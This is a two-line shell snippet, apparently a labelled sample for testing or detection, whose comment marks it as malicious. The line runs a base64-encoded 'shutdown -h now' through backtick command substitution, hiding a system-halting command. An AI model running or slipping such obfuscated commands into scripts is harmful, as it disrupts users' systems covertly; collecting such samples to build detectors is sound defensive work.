# Malicious, obfuscated: backticks run the output of a base64 decode as a command (shutdown -h now).
`echo c2h1dGRvd24gLWggbm93 | base64 -d`
